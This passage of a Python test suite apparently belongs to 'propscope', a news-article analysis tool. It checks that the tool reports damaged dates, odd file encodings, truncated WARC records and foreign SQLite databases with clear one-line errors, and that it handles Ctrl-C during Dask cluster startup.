    import sqlalchemy.dialects.sqlite.base as sqlite_base

    def str_to_date(value):  # a date reader outside sqlalchemy/engine/, as SQLAlchemy 2.0's compiled one
        return None if value is None else dt.date.fromisoformat(value)

    monkeypatch.setattr(sqlite_base.DATE, "result_processor", lambda self, dialect, coltype: str_to_date)
    monkeypatch.chdir(tmp_path)
    _two_analysed_articles(tmp_path / "s.db")
    with contextlib.closing(sqlite3.connect(tmp_path / "s.db")) as con, con:
        con.execute("update articles set published = ? where id = 'b'", ("\0" * 10,))
    r = CliRunner().invoke(main, ["export", "--db", "s.db", "-o", "out.jsonl"])
    assert r.exit_code == 1 and isinstance(r.exception, SystemExit), r.exception
    assert "a stored date cannot be read" in r.stderr and "damaged" in r.stderr and len(r.stderr.splitlines()) == 1
    with TestClient(create_app(db=str(tmp_path / "s.db"), model="ngram"), raise_server_exceptions=False) as c:
        r = c.get("/api/articles")
        assert r.status_code == 503 and "a stored date cannot be read" in r.json()["detail"]


def test_commands_opening_one_new_store_at_once_all_open_it(tmp_path):
    """Two cron jobs (or `ingest` and `serve`) making one new store at once: of three processes,
    one or two failed with "cannot open database ...: database is locked", since the schema was
    made in a deferred transaction that SQLite cannot turn into a write once another process wrote.
    Each waits for the other now, and finds the schema made."""
    import subprocess
    import sys

    child = ("import os, sys, time\nfrom propscope.store import Store\n"
             "while not os.path.exists(sys.argv[2]): time.sleep(0.005)\n"
             "Store(sys.argv[1]).count_articles()\n")
    for k in range(1):
        url, go = f"sqlite:///{tmp_path / f's{k}.db'}", tmp_path / f"go{k}"
        procs = [subprocess.Popen([sys.executable, "-c", child, url, str(go)], stderr=subprocess.PIPE, text=True)
                 for _ in range(3)]
        time.sleep(3)  # all three have imported propscope and wait for the same moment
        go.touch()
        errors = [p.communicate(timeout=120)[1] for p in procs]
        assert all(p.returncode == 0 for p in procs), errors


@pytest.mark.parametrize("value, want", [
    ("Mon, 01 Jan 0001 00:00:00 +0100", "0001-01-01"), ("Sat, 01 Jan 0000 00:00:00 GMT", None),
    ("Thu, 31 Dec 0099 10:00:00 GMT", "0099-12-31"), ("Tue, 05 Mar 24 10:00:00 GMT", "2024-03-05"),
    ("Fri, 01 Jan 99 10:00:00 GMT", "1999-01-01"), ("Tue, 05 Mar 2024 10:00:00 GMT", "2024-03-05")])
def test_an_rfc_2822_year_of_four_digits_is_that_year(value, want):
    """Python reads an RFC 2822 year below 100 as 19xx or 20xx whatever its digits, which is right
    for the old two-digit years ('05 Mar 24') but stored 'Mon, 01 Jan 0001' as 2001-01-01 and year
    0000, which no calendar has, as 2000-01-01, where the ISO 8601 '0001-01-01' is year 1."""
    got = ingest.record_date(value)
    assert (str(got) if got else got) == (want or False)


def test_a_reading_command_leaves_another_programs_sqlite_file_as_it_was(tmp_path, monkeypatch):
    """`report --db places.sqlite` (a browser's history, any other program's SQLite file) wrote
    propscope's 30 tables and indexes into it and reported 0 articles, exit 0. A reading command
    names the file as no store and leaves it; a propscope store is read as before."""
    import sqlite3

    monkeypatch.chdir(tmp_path)
    with contextlib.closing(sqlite3.connect("places.sqlite")) as con, con:
        con.execute("create table moz_places (id integer primary key, url text)")
        con.execute("insert into moz_places (url) values ('https://example.com/')")
    before = (tmp_path / "places.sqlite").read_bytes()
    for args in (["report"], ["search", "harbour"], ["export"], ["topics"]):
        r = CliRunner().invoke(main, [*args, "--db", "places.sqlite"])
        assert r.exit_code == 1 and isinstance(r.exception, SystemExit), (args, r.output)
        assert "another program's SQLite database (tables: moz_places)" in r.stderr and len(r.stderr.splitlines()) == 1
    assert (tmp_path / "places.sqlite").read_bytes() == before
    assert not (tmp_path / "places.sqlite-wal").exists()
    Store("sqlite:///s.db").add_articles([Article("a", "The council closed the harbour bridge. " * 5)])
    assert cli("search", "--db", "s.db", "harbour").exit_code == 0


def test_a_record_whose_id_holds_another_text_fills_in_nothing(db_url, tmp_path):
    """A record whose id is stored with another text is not stored ("kept the stored articles with
    ids '1'"), yet its date, title, outlet and URL were written into the stored article, which had
    none: 'filled in the missing published of stored article '1'' on the line before, and the
    stored story then carried the other record's date 9999-12-31."""
    first, second = tmp_path / "monday.csv", tmp_path / "tuesday.csv"
    first.write_text("id,text\n1,The council voted the harbour plan down.\n")
    second.write_text("id,text,title,outlet,published,url\n1,A different story on rail fares.,Rail fares,"
                      "rail.example,9999-12-31,https://rail.example/fares\n")
    assert cli("ingest", first, "--db", db_url).exit_code == 0
    r = CliRunner().invoke(main, ["ingest", str(second), "--db", db_url])
    assert r.exit_code == 0 and "filled in" not in r.stderr and "kept the stored articles with ids '1'" in r.stderr
    got = Store(db_url).get_article("1")
    assert (got.text, got.title, got.outlet, got.published, got.url) == (
        "The council voted the harbour plan down.", None, None, None, None)


def _places(path: Path) -> bytes:
    """A browser's history file: another program's SQLite database, as its bytes."""
    import sqlite3

    with contextlib.closing(sqlite3.connect(path)) as con, con:
        con.execute("create table moz_places (id integer primary key, url text)")
        con.execute("insert into moz_places (url) values ('https://example.com/')")
    return path.read_bytes()


@pytest.mark.parametrize("args", [["ingest", "a.txt"], ["analyze", "a.txt", "--model", "ngram"], ["analyze"],
                                  ["reuse", "a.txt"], ["batch", "a.txt", "--scheduler", "local[1]", "-o", "out"],
                                  ["topics"], ["serve", "--port", "FREE"]])
def test_a_writing_command_leaves_another_programs_sqlite_file_unless_told_to_share_it(tmp_path, monkeypatch, args):
    """`ingest story.txt --db places.sqlite` (round 13 left it; the same for `analyze --db`, `reuse
    --db`, `batch --db`, `topics` and `serve`) wrote propscope's tables and indexes into a browser's
    history file and stored the story there, exit 0. Such a file is named, with its tables, and left
    as it was; --share-db adds propscope's tables to it when that is what is meant."""
    monkeypatch.chdir(tmp_path)
    Path("a.txt").write_text("The council closed the harbour bridge for repairs on Monday. " * 4)
    before = _places(tmp_path / "places.sqlite")
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = str(free.getsockname()[1])
    r = CliRunner().invoke(main, [port if a == "FREE" else a for a in args] + ["--db", "places.sqlite"])
    assert r.exit_code == 1 and isinstance(r.exception, SystemExit), r.output
    assert r.stderr == ("propscope: cannot open database sqlite:///" + str(tmp_path / "places.sqlite") + ": it is "
                        "another program's SQLite database (tables: moz_places), not a propscope store; check --db or "
                        "$PROPSCOPE_DB, or give propscope a file of its own; to add propscope's tables to this one, "
                        "pass --share-db\n")
    assert (tmp_path / "places.sqlite").read_bytes() == before and not (tmp_path / "places.sqlite-wal").exists()


def test_share_db_adds_propscopes_tables_to_another_programs_sqlite_file(tmp_path, monkeypatch):
    import sqlite3

    monkeypatch.chdir(tmp_path)
    Path("a.txt").write_text("The council closed the harbour bridge for repairs on Monday. " * 4)
    _places(tmp_path / "places.sqlite")
    assert cli("ingest", "a.txt", "--db", "places.sqlite", "--share-db").exit_code == 0
    assert cli("search", "--db", "places.sqlite", "harbour").exit_code == 0  # a propscope store now, theirs kept
    with contextlib.closing(sqlite3.connect(tmp_path / "places.sqlite")) as con:
        assert con.execute("select url from moz_places").fetchall() == [("https://example.com/",)]
    assert Store(str(tmp_path / "places.sqlite")).count_articles() == 1


def test_the_python_store_leaves_another_programs_sqlite_file_unless_shared(tmp_path):
    from propscope.store import StoreError

    before = _places(tmp_path / "places.sqlite")
    with pytest.raises(StoreError, match=r"another program's SQLite database \(tables: moz_places\)") as e:
        Store(str(tmp_path / "places.sqlite"))
    assert "--share-db" not in str(e.value) and "share=True" in str(e.value)
    assert (tmp_path / "places.sqlite").read_bytes() == before
    Store(str(tmp_path / "places.sqlite"), share=True).add_articles([Article("a", "A story.")])
    assert Store(str(tmp_path / "places.sqlite")).count_articles() == 1


# -- round 15 -------------------------------------------------------------------------------
@pytest.fixture
def no_spacy_pipeline(monkeypatch):
    """$PROPSCOPE_SPACY_MODEL naming a pipeline that is not installed (as read at import)."""
    from propscope.sources import model as spacy_model

    monkeypatch.setattr(spacy_model, "MODEL", "no_such_pipeline")
    spacy_model.nlp.cache_clear()
    yield
    spacy_model.nlp.cache_clear()


def test_a_spacy_pipeline_that_cannot_load_is_one_line_in_sources(tmp_path, no_spacy_pipeline):
    """`PROPSCOPE_SPACY_MODEL=nonsense propscope sources a.txt` was an OSError traceback from spaCy."""
    (tmp_path / "a.txt").write_text("The minister said the plan was a disaster.")
    r = CliRunner().invoke(main, ["sources", str(tmp_path / "a.txt")])
    assert r.exit_code == 1 and isinstance(r.exception, SystemExit), r.output
    assert r.stderr.count("\n") == 1 and "'no_such_pipeline'" in r.stderr and "$PROPSCOPE_SPACY_MODEL" in r.stderr


def test_a_spacy_pipeline_that_cannot_load_marks_no_stored_article_failed(tmp_path, no_spacy_pipeline):
    """`analyze --db` with $PROPSCOPE_SPACY_MODEL naming no pipeline recorded every stored article as
    failed, "skipped by later runs unless --retry-failed", exit 0 after its summary: the setup's fault
    was put on each article. Now it stops before any is recorded, with one line, exit 1."""
    db = str(tmp_path / "s.db")
    for n in range(3):
        (tmp_path / f"a{n}.txt").write_text(f"The minister said plan {n} was a disaster for the harbour.")
    assert cli("ingest", tmp_path, "--db", db).exit_code == 0
    r = CliRunner().invoke(main, ["analyze", "--db", db, "--model", "ngram"])
    assert r.exit_code == 1 and isinstance(r.exception, SystemExit), r.output
    assert r.stderr.count("\n") == 1 and "$PROPSCOPE_SPACY_MODEL" in r.stderr
    assert Store(db).failures()[0] == 0


def test_batch_checks_the_spacy_pipeline_before_its_cluster_starts(tmp_path, no_spacy_pipeline, monkeypatch):
    """`batch` with $PROPSCOPE_SPACY_MODEL naming no pipeline started its cluster, failed on every
    worker (a screen of Dask's task tracebacks) and then said one line; it says the line first."""
    from propscope import batch as runner

    def no_cluster(*a, **k):
        raise AssertionError("the cluster was started")

    monkeypatch.setattr(runner, "make_client", no_cluster)
    (tmp_path / "a.txt").write_text("The minister said the plan was a disaster.")
    r = CliRunner().invoke(main, ["batch", str(tmp_path / "a.txt"), "--model", "ngram", "-o", str(tmp_path / "out")])
    assert r.exit_code == 1 and isinstance(r.exception, SystemExit), r.output
    assert r.stderr.count("\n") == 1 and "'no_such_pipeline'" in r.stderr


def test_serve_and_the_web_say_the_spacy_pipeline_cannot_load(tmp_path, no_spacy_pipeline):
    """The web analyses with sources: with $PROPSCOPE_SPACY_MODEL naming no pipeline each post was a
    500 (spaCy's OSError); `serve` says so before it starts, and the app answers 503 with the words."""
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = str(free.getsockname()[1])
    r = CliRunner().invoke(main, ["serve", "--db", str(tmp_path / "s.db"), "--model", "ngram", "--port", port])
    assert r.exit_code == 1 and "'no_such_pipeline'" in r.stderr and r.stderr.count("\n") == 1
    with TestClient(create_app(db=str(tmp_path / "s.db"), model="ngram"), raise_server_exceptions=False) as c:
        got = c.post("/api/analyze", json={"text": "The minister said the plan was a disaster for the harbour."})
    assert got.status_code == 503 and "no_such_pipeline" in got.text


def _alembic_file(path: Path, tables: str, versions: tuple[str, ...]) -> bytes:
    """A SQLite file of another program that keeps its schema's version with alembic, as its bytes."""
    import sqlite3

    with contextlib.closing(sqlite3.connect(path)) as con, con:
        con.execute("create table alembic_version (version_num varchar(32) not null primary key)")
        con.executemany("insert into alembic_version values (?)", [(v,) for v in versions])
        for t in tables.split():
            con.execute(f"create table {t} (id integer primary key, body text)")
    return path.read_bytes()


@pytest.mark.parametrize("tables, args", [("users", ["ingest", "a.txt", "--share-db"]), ("articles", ["report"]),
                                          ("articles", ["ingest", "a.txt"]),
                                          ("articles", ["ingest", "a.txt", "--share-db"])])
def test_another_programs_alembic_version_is_not_said_to_be_a_newer_propscope(tmp_path, monkeypatch, tables, args):
    """A file of another program that itself uses alembic (round 14 left it): with --share-db, or
    with a table named `articles` of its own, the command said "Can't locate revision identified by
    'ae1027a6acf'; a newer propscope made it, so upgrade propscope to use it", which no upgrade
    mends. It says whose the version is now, and leaves the file as it was."""
    monkeypatch.chdir(tmp_path)
    Path("a.txt").write_text("The council closed the harbour bridge for repairs on Monday. " * 4)
    before = _alembic_file(tmp_path / "app.db", tables, ("ae1027a6acf",))
    r = CliRunner().invoke(main, [*args, "--db", "app.db"])
    assert r.exit_code == 1 and isinstance(r.exception, SystemExit), r.output
    assert "newer propscope" not in r.stderr and "another program" in r.stderr
    assert "'ae1027a6acf'" in r.stderr or "(tables: alembic_version, articles)" in r.stderr
    assert r.stderr.count("\n") == 1 and (tmp_path / "app.db").read_bytes() == before


@pytest.mark.parametrize("versions", [(), ("0002",), ("0002", "0007")])
def test_a_store_whose_schema_version_was_changed_says_so(tmp_path, versions):
    """propscope's own store whose alembic_version another hand changed: emptied, set back to an
    older revision, or given two rows. It said "table articles already exists (another program's
    tables are there: give propscope a database of its own)" or "a newer propscope made it"; it
    says the version does not match the store's tables, and the store is left as it was."""
    import sqlite3

    db = tmp_path / "s.db"
    Store(str(db)).add_articles([Article("a", "The harbour strike ended.")])
    with contextlib.closing(sqlite3.connect(db)) as con, con:
        con.execute("delete from alembic_version")
        con.executemany("insert into alembic_version values (?)", [(v,) for v in versions])
    before = db.read_bytes()
    for args in (["report"], ["ingest", "-"]):
        r = CliRunner().invoke(main, [*args, "--db", str(db)], input="A story.")
        assert r.exit_code == 1 and isinstance(r.exception, SystemExit), r.output
        assert "another program's tables" not in r.stderr and "newer propscope" not in r.stderr, r.stderr
        assert "schema version" in r.stderr and "backup" in r.stderr and r.stderr.count("\n") == 1
    assert db.read_bytes() == before


@pytest.mark.parametrize("last", [False, True])
def test_a_warc_record_claiming_more_than_the_file_holds_costs_only_itself(tmp_path, last):
    """A plain WARC whose record 2 says a Content-Length fifty times its size ran on to the end of
    the file: "record 2 is cut off: 25,404 bytes of it are missing, the file ends early", and the
    whole records 3 and 4 it swallowed were never read (1 page of 4 stored). A record whose length
    runs past the end of the file while another record starts inside it has a wrong length: it is
    reported as such and reading goes on at the next record. A last record cut short is still cut off."""
    recs = make_warc(tmp_path / "x.warc", 4, gz=False).split(b"WARC/1.0\r\n")[1:]
    k = 3 if last else 1

    def lie(rec: bytes) -> bytes:
        n = int(re.search(rb"Content-Length: (\d+)", rec).group(1))
        return re.sub(rb"Content-Length: \d+", b"Content-Length: %d" % (n * 50), rec, count=1)

    (tmp_path / "x.warc").write_bytes(b"".join(b"WARC/1.0\r\n" + (lie(r) if i == k else r) for i, r in enumerate(recs)))
    db = str(tmp_path / "s.db")
    r = CliRunner().invoke(main, ["ingest", str(tmp_path / "x.warc"), "--db", db])
    assert r.exit_code == 1 and Store(db).count_articles() == 3, r.output
    assert f"#{k + 1}: record {k + 1} " in r.stderr
    assert ("cut off" in r.stderr) == last and ("Content-Length" in r.stderr) != last


def test_a_byte_order_mark_starting_a_csv_row_is_no_part_of_its_id(tmp_path):
    """`cat export.csv more.csv`, the second without a header but saved with a byte-order mark: its
    first row's id was stored as '\\ufeff2', an id no later record '2' matches."""
    body = "The council closed the harbour bridge for repairs on Monday."
    (tmp_path / "x.csv").write_bytes(f"id,text\n1,{body}\n\ufeff2,Tuesday: {body}\n".encode())
    db = str(tmp_path / "s.db")
    assert cli("ingest", tmp_path / "x.csv", "--db", db).exit_code == 0
    assert Store(db).get_article("2") is not None


def test_a_csv_whose_rows_are_all_refused_is_not_said_to_have_none(tmp_path):
    """A CSV whose only row was refused ("row has more cells than the header") was then also
    "CSV has a header but no rows", a second line that is not so."""
    (tmp_path / "x.csv").write_text("id,text\n1,The council closed the harbour bridge.,extra\n")
    r = CliRunner().invoke(main, ["ingest", str(tmp_path / "x.csv"), "--db", str(tmp_path / "s.db")])
    assert r.exit_code == 1 and "more cells than the header" in r.stderr and "no rows" not in r.stderr


@pytest.mark.parametrize("value", ["afile", "missing"])
def test_a_models_or_taxonomies_variable_naming_no_folder_says_so(tmp_path, monkeypatch, value):
    """$PROPSCOPE_MODELS naming a file or nothing: `propscope models` printed nothing, exit 0, and
    `analyze` said "no model named 'ngram' (available: none installed)"; $PROPSCOPE_TAXONOMIES so
    set was "unknown taxonomy 'mine'". Each names the variable and what it names."""
    (tmp_path / "afile").write_text("not a folder")
    monkeypatch.setenv("PROPSCOPE_MODELS", str(tmp_path / value))
    r = CliRunner().invoke(main, ["models"])
    assert r.exit_code == 1 and "$PROPSCOPE_MODELS" in r.stderr and "no folder" in r.stderr, r.output
    (tmp_path / "a.txt").write_text("The minister said the plan was a disaster.")
    r = CliRunner().invoke(main, ["analyze", str(tmp_path / "a.txt"), "--model", "ngram"])
    assert r.exit_code == 1 and "$PROPSCOPE_MODELS" in r.stderr and r.stderr.count("\n") == 1
    monkeypatch.delenv("PROPSCOPE_MODELS")
    monkeypatch.setenv("PROPSCOPE_TAXONOMIES", str(tmp_path / value))
    r = CliRunner().invoke(main, ["techniques", "--taxonomy", "mine"])
    assert r.exit_code != 0 and "$PROPSCOPE_TAXONOMIES" in r.output + r.stderr


_WORKER_MASK = """
import multiprocessing, signal
from propscope.cli import _interrupt_ignored


def report(conn):
    conn.send(signal.SIGINT in signal.pthread_sigmask(signal.SIG_BLOCK, []))


if __name__ == "__main__":
    ctx = multiprocessing.get_context("spawn")  # as Dask starts its workers
    mine, theirs = ctx.Pipe()  # a Queue would start the resource tracker before the block
    with _interrupt_ignored():
        p = ctx.Process(target=report, args=(theirs,))
        p.start()
    print("blocked" if mine.recv() else "open")
    p.join()
"""


def test_processes_started_while_ctrl_c_is_held_never_see_it(tmp_path):
    """Worker processes started while the cluster starts must not take the terminal's Ctrl-C
    (each printed a traceback, or died half-started and Dask's "Nanny failed to start" came
    instead of the one line): they inherit the blocked mask. multiprocessing unblocked it in the
    thread that started its resource tracker, which is the first process started, so the first
    worker was born open."""
    script = tmp_path / "mask.py"
    script.write_text(_WORKER_MASK)
    r = subprocess.run([sys.executable, str(script)], capture_output=True, text=True, timeout=120)
    assert r.stdout.strip() == "blocked", r.stdout + r.stderr


@pytest.mark.parametrize("bystander", [False, True])
@pytest.mark.parametrize("command", ["batch", "reuse"])
def test_ctrl_c_while_the_cluster_starts_stops_the_command(tmp_path, monkeypatch, command, bystander):
    """Ctrl-C was ignored while the Dask cluster started, so as not to cut it off half-made: on a
    loaded machine that is tens of seconds, and a Ctrl-C then was dropped: `batch` ran all 400
    articles to the end, exit 0. It is held now and acted on once the cluster is up: the cluster
    is closed, one line, exit 130, and nothing is analysed.

    With a bystander: a thread started before the command (a model's thread pool, an earlier
    cluster's event loop) does not block the signal, so the kernel handed it that thread, and
    under SIG_IGN it was dropped (CI, stop 41, once in a whole run)."""
    import signal
    import threading

    from propscope import batch as runner

    closed = []

    class Client:
        def close(self):
            closed.append(True)

    def interrupted_start(*a, **k):
        os.kill(os.getpid(), signal.SIGINT)  # the terminal's Ctrl-C, while the cluster starts
        time.sleep(0.2)  # which takes a while: time enough for any thread the kernel chose to take it
        return Client()

    def no_run(*a, **k):
        raise AssertionError("went on after Ctrl-C")

    monkeypatch.setattr(runner, "make_client", interrupted_start)
    monkeypatch.setattr(runner, "run", no_run)
    before = signal.signal(signal.SIGINT, signal.default_int_handler)  # as a command starts, whatever ran before
    from propscope import reuse

    monkeypatch.setattr(reuse, "find_reuse_dask", no_run)
    (tmp_path / "a.txt").write_text("The minister said the plan was a disaster for the harbour. " * 3)
    (tmp_path / "b.txt").write_text("The minister said the plan was a disaster for the harbour. " * 3)
    args = (["batch", str(tmp_path / "a.txt"), "--model", "ngram", "--no-sources", "-o", str(tmp_path / "out")]
            if command == "batch" else ["reuse", str(tmp_path / "a.txt"), str(tmp_path / "b.txt")])
    stop = threading.Event()
    if bystander:
        threading.Thread(target=stop.wait, daemon=True).start()
    try:
        r = CliRunner().invoke(main, [*args, "--scheduler", "local[1]"])
    finally:
        stop.set()
        signal.signal(signal.SIGINT, before)
    assert r.exit_code == 130 and "interrupted" in r.stderr and closed == [True], (r.output, r.exception)


# -- round 16 -------------------------------------------------------------------------------
def test_ctrl_c_while_reuse_aligns_on_a_cluster_leaves_no_dask_noise(monkeypatch, caplog):
    """`reuse --scheduler local[2]` stopped by Ctrl-C while its pairs were aligned printed six
    "Task exception was never retrieved ... distributed.client.AllExit" tracebacks before the one
    line: ``client.gather`` leaves a waiting task per future in the cluster's event loop, and
    closing the client ends each with an exception nobody reads. `batch` (``as_completed``) was
    quiet in the same probe."""
    import _thread
    import gc
    import signal

    from distributed import Client, LocalCluster

    from propscope import reuse

    def slow(items, **k):
        time.sleep(3)
        return []

    monkeypatch.setattr(reuse, "_align_items", slow)
    text = "The minister said the plan for the harbour was a disaster and the council would vote on it next week. " * 4
    arts = [Article(id=f"a{i}", text=text + f" Other words, number {i}, follow here. " * 3) for i in range(6)]
    # Python's own handler, as a command starts: started in the background (CI), SIGINT is ignored,
    # and interrupt_main then does nothing
    before = signal.signal(signal.SIGINT, signal.default_int_handler)
    try:
        with LocalCluster(n_workers=1, threads_per_worker=2, processes=False, dashboard_address=None) as cluster, \
                Client(cluster) as client:
            threading.Timer(1.0, _thread.interrupt_main).start()  # Ctrl-C while the pairs are aligned
            with pytest.raises(KeyboardInterrupt):
                reuse.find_reuse_dask(arts, client, pairs_per_task=1)
    finally:
        signal.signal(signal.SIGINT, before)
    gc.collect()  # asyncio reports an unread task exception when the task is collected
    assert "never retrieved" not in caplog.text, caplog.text


@pytest.mark.parametrize("field", ["text", "title"])
def test_a_multipart_form_field_that_is_not_utf8_is_the_page_with_the_reason(client, field):
    """`curl -F 'text=<story.txt'` sends a file's bytes as a plain field: Starlette read one that
    was not UTF-8 as latin-1 without a word, so a windows-1252 story's quotes were stored as the
    control characters U+0093 and U+0094 (the same story attached with `-F text=@story.txt`, or
    URL-encoded, was refused)."""
    story = b"The minister said the plan was a \x93disaster\x94 for the harbour, and everyone knows it."
    fields = {"text": story, "title": b"A \x93title\x94"} if field == "title" else {"text": story}
    if field == "title":
        fields["text"] = b"The minister said the plan was a disaster for the harbour."
    body = b"".join(b'--b\r\nContent-Disposition: form-data; name="' + k.encode() + b'"\r\n\r\n' + v + b"\r\n"
                    for k, v in fields.items()) + b"--b--\r\n"
    r = client.post("/analyze", content=body, follow_redirects=False,
                    headers={"content-type": "multipart/form-data; boundary=b", "accept": "text/html"})
    assert r.status_code == 400 and r.headers["content-type"].startswith("text/html"), r.status_code
    assert f"The form's field '{field}' is not UTF-8 text (byte 0x93" in alert(r) and "<form" in r.text
    assert client.get("/api/articles").json()["total"] == 0


_PASTED = "A stretch pasted from a Word document about the harbour and the council.\n".encode("utf-16-le")


def test_a_utf16_stretch_inside_a_utf8_text_file_is_refused_not_stored_garbled(tmp_path):
    """A UTF-8 text with a stretch of UTF-16 pasted in (a Windows clipboard, PowerShell's `>>`)
    was read as UTF-16 whole: its UTF-8 lines were stored as CJK characters ('周攠浩湩獴敲...'),
    exit 0, without a word."""
    (tmp_path / "story.txt").write_bytes(b"The minister said the plan was a disaster for the harbour.\nAnd then:\n"
                                         + _PASTED + b"More text after it about the council and the budget.\n")
    db = str(tmp_path / "s.db")
    r = CliRunner().invoke(main, ["ingest", str(tmp_path / "story.txt"), "--db", db])
    assert r.exit_code == 1 and r.stderr.count("\n") == 1 and "UTF-16" in r.stderr and "byte 70" in r.stderr, r.stderr
    assert list(Store(db).iter_articles()) == []


def test_a_utf16_stretch_inside_a_utf8_csv_costs_only_its_rows(tmp_path):
    """The same CSV was read as UTF-16 whole and refused for its garbled header, every row lost."""
    rows = [f"{i},The minister said plan number {i} was a disaster for the harbour." for i in range(1, 6)]
    (tmp_path / "x.csv").write_bytes(("id,text\n" + "\n".join(rows[:3]) + "\n").encode() + b"4," + _PASTED
                                     + ("\n".join(rows[3:]) + "\n").encode())
    db = str(tmp_path / "s.db")
    r = CliRunner().invoke(main, ["ingest", str(tmp_path / "x.csv"), "--db", db])
    assert r.exit_code == 1 and "header" not in r.stderr, r.stderr
    assert {a.id for a in Store(db).iter_articles()} >= {"1", "2", "3", "5"}


@pytest.mark.parametrize("ref", ["&#1;", "&#x1B;", "&#0008", "&#xFFFE;", "&#65535;"])
def test_a_character_reference_xml_cannot_hold_costs_no_page(tmp_path, ref):
    """A page whose article holds one reference to a control character (a CMS escaping a
    pasted backspace or escape) or to U+FFFE/U+FFFF was "no article text found in the HTML":
    libxml2 decodes the reference, and trafilatura's output, built as XML, was discarded whole.
    The character is dropped, as the parser drops it when it stands in the page as a byte."""
    body = "<p>" + "The minister said the plan was a disaster for the harbour and the council. " * 5 + "</p>"
    (tmp_path / "page.html").write_text(f"<html><body><article>{body}<p>Last {ref}line.</p></article></body></html>")
    [item] = read_inputs([str(tmp_path / "page.html")], ReadOptions())
    assert not isinstance(item, Rejected), item.reason
    assert item.text.endswith("Last line.") and "harbour" in item.text


@pytest.mark.parametrize("coding", ["br", "zstd"])
def test_an_archived_page_in_a_content_encoding_not_read_says_so(tmp_path, coding):
    """A crawler that asked for brotli (a browser-based crawl) keeps the page as the server sent it,
    `Content-Encoding: br`; without a brotli module warcio hands the compressed bytes on, and the
    record was "looks binary (NUL bytes); give a UTF-8 text, HTML, JSONL or CSV file", words about a
    file the user gave whole."""
    body = b"\x1b\x8f\x00\xf8\x25\x00\x12\x07" * 40
    payload = (f"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Encoding: {coding}\r\n\r\n").encode() + body
    record = (f"WARC/1.0\r\nWARC-Type: response\r\nWARC-Record-ID: <urn:uuid:1>\r\nWARC-Target-URI: "
              f"https://example.com/a\r\nContent-Type: application/http; msgtype=response\r\n"
              f"Content-Length: {len(payload)}\r\n\r\n").encode() + payload + b"\r\n\r\n"
    (tmp_path / "crawl.warc").write_bytes(record)
    [item] = read_inputs([str(tmp_path / "crawl.warc")], ReadOptions())
    assert isinstance(item, Rejected) and f"Content-Encoding: {coding}" in item.reason, item
    assert "record 1" in item.reason and "give a UTF-8" not in item.reason
